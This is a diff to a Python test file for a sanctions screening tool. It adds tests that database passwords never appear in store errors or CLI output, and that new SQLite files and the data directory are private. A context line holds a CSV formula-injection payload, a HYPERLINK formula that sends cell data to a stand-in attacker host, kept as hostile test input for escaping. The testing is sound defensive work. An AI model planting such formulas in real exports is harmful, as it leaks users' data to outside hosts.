@@ -23,19 +23,21 @@ from pathlib import Path
 import httpx
 import pytest
 from click.testing import CliRunner
+from sqlalchemy import make_url
 
-from sanctions import download
+from sanctions import config, download
 from sanctions.cache import MAGIC, cache_key_path, read_cache, write_cache
 from sanctions.cli import main
 from sanctions.coordination.reports import render_csv
 from sanctions.csvsafe import csv_writer, safe_cell
 from sanctions.download import fetch_dataset
-from sanctions.errors import DownloadError
+from sanctions.errors import DownloadError, StoreError
 from sanctions.screening import parse_query
 from sanctions.sources.registry import ResolvedFile, get_source
 from sanctions.store import Store
 from sanctions.update import update_datasets
 from sanctions.watch.keys import RecordKeys, load_keys
+from tests.store.test_store import postgres_url
 
 HOSTILE = {
     "=": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
@@ -431,3 +433,56 @@ def test_mirror_credentials_are_used_but_never_kept_or_shown(
     for secret in ("s3cr3t-pw", "t0ken-xyz"):
         for where in (state, dump, caplog.text, json.dumps([report.to_dict(), failed.to_dict()])):
             assert secret not in where
+
+
+# -- secrets in store errors, file modes ----------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "postgresql://app:s3cr3t-pw@127.0.0.1:1/sanctions",  # nothing listens there
+        "postgresql://app:s3cr3t-pw@127.0.0.1:notaport/sanctions",  # a ValueError inside
+    ],
+)
+def test_store_errors_never_show_the_database_password(url: str) -> None:
+    with pytest.raises(StoreError) as caught:
+        Store.open(url)
+    message = str(caught.value)
+    assert "s3cr3t-pw" not in message and "app:***@127.0.0.1" in message
+    assert "\n" not in message
+    result = CliRunner().invoke(main, ["--db", url, "lists"])
+    assert result.exit_code == 2 and "s3cr3t-pw" not in result.output
+    assert "Traceback" not in result.output and len(result.output.strip().splitlines()) == 1
+
+
+@pytest.mark.postgres
+def test_postgresql_error_never_shows_the_password() -> None:
+    good = make_url(postgres_url())
+    bad = good.set(password="s3cr3t-pw", database="no_such_database_here")
+    with pytest.raises(StoreError, match="no_such_database_here") as caught:
+        Store.open(bad.render_as_string(hide_password=False))
+    assert "s3cr3t-pw" not in str(caught.value) and ":***@" in str(caught.value)
+
+
+def test_new_sqlite_store_and_its_wal_are_private_and_the_data_dir_is_0700(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    old = os.umask(0o022)  # a usual umask: files 0644 unless we say otherwise
+    try:
+        data = tmp_path / "new-data-dir"
+        monkeypatch.setenv("SANCTIONS_DATA_DIR", str(data))
+        assert config.data_dir() == data
+        store = Store.open(None)  # the default store in the data dir
+        store.load(Path(__file__).parent.parent / "fixtures" / "ftm" / "v1.jsonl", "fixture")
+        modes = {
+            p.name: stat.S_IMODE(p.stat().st_mode)
+            for p in data.iterdir()
+            if p.name.startswith("sanctions.db")
+        }
+        store.close()
+    finally:
+        os.umask(old)
+    assert stat.S_IMODE(data.stat().st_mode) == 0o700
+    assert set(modes) >= {"sanctions.db", "sanctions.db-wal"}
+    assert modes == dict.fromkeys(modes, 0o600)
